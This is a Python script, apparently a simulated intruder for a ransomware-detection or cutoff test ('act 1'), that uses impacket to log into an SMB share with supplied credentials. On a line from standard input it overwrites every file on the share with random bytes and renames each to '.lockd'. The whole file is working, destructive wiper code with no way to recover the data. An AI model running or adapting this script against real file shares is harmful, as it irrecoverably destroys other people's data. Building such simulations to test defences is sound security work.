# SPDX-License-Identifier: GPL-3.0-or-later
"""The intruder of act 1: opens an SMB session with valid credentials, waits for a line on standard input, then overwrites
every file of the share with random bytes and renames it. It knows no network but the one address it is given."""
import os
import sys

from impacket.smb import SMB_DIALECT  # noqa: F401
from impacket.smb3structs import FILE_OPEN, SMB2_DIALECT_21
from impacket.smbconnection import SMBConnection

host, share, user, password = sys.argv[1:5]
c = SMBConnection('*SMBSERVER', host, preferredDialect=SMB2_DIALECT_21, timeout=5)
c.login(user, password)
tree = c.connectTree(share)


def walk(path=''):
    for f in c.listPath(share, path + '\\*'):
        name = f.get_longname()
        if name in ('.', '..'):
            continue
        if f.is_directory():
            yield from walk(path + '\\' + name)
        else:
            yield (path + '\\' + name).lstrip('\\'), f.get_filesize()


files = list(walk())
print('session open, %d files listed' % len(files), flush=True)
sys.stdin.readline()
lost = 0
try:
    for name, size in files:
        fid = c.openFile(tree, name, desiredAccess=0x0012019f | 0x00010000, shareMode=7, creationDisposition=FILE_OPEN)
        data, at = b'', 0
        while at < size:
            part = c.readFile(tree, fid, at, min(65536, size - at))
            if not part:
                break
            at += len(part)
        data = os.urandom(size)
        for at in range(0, size, 60000):
            c.writeFile(tree, fid, data[at:at + 60000], at)
        c.closeFile(tree, fid)
        c.rename(share, name, name + '.lockd')
        lost += 1
        print('locked %d' % lost, flush=True)
except Exception as e:  # cut off: what a real encryptor would see
    print('stopped after %d files: %s' % (lost, str(e)[:80]), flush=True)
    sys.exit(0)
print('finished: %d files' % lost, flush=True)
